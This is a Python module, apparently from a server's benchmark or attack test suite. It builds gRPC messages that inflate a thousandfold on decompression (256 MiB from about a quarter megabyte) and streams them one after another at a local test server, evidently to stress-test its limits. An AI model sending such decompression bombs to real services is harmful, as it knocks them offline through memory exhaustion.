"""Messages that are a thousand times larger after decompression."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from functools import cache, partial

from bench.attacks.connections import one_by_one
from tests.server import frames
from tests.server.connection import RawConnection

INFLATED_BYTES = 2**28
WINDOW_BITS = {"gzip": 31, "deflate": 15}
"""Argument of zlib for each encoding of gRPC."""


def steps(port: int) -> Iterator[None]:
    """Send a message of ``INFLATED_BYTES``, packed to a quarter of a megabyte, in each step."""
    return one_by_one(port, partial(sent, "gzip"))


def sent(encoding: str, wire: RawConnection) -> Iterator[None]:
    """Send a bomb in each step, after the server has answered the one before."""
    stream = 1
    while True:
        wire.send(frames.headers(stream, frames.TRANSLATE, grpc_encoding=encoding))
        wire.send_paced(stream, frames.message_frames(stream, packed(encoding), compressed=1))
        yield
        stream += 2


@cache
def packed(encoding: str) -> bytes:
    """Compress ``INFLATED_BYTES`` of one letter."""
    packer = zlib.compressobj(9, zlib.DEFLATED, WINDOW_BITS[encoding])
    letters = b"a" * 2**20
    parts = [packer.compress(letters) for _ in range(INFLATED_BYTES // len(letters))]
    return b"".join([*parts, packer.flush()])
